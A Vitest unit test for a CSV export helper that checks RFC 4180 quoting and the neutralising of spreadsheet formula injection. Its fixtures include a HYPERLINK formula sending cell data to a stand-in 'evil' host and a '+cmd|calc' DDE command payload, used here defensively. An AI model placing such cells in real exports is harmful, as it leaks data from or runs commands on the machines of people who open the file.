/** CSV export cells: RFC 4180 quoting, and no cell a spreadsheet would run as a formula. */
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../coordinator/runs/run-export.js';

describe('csvLine', () => {
  it('neutralises cells a spreadsheet would evaluate (tags written by trial programs), leaving numbers alone', () => {
    expect(csvLine(['=HYPERLINK("http://evil/?"&A1,"x")', '@SUM(A1)', '+cmd|calc', '-2+3', '\tx'])).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@SUM(A1),'+cmd|calc,'-2+3,'\tx\r\n`);
    expect(csvLine(['-0.5', '+1e3', '-12', 'plain', ''])).toBe('-0.5,+1e3,-12,plain,\r\n');
    expect(csvLine(['a, "quoted"\nname'])).toBe('"a, ""quoted""\nname"\r\n');
  });
});
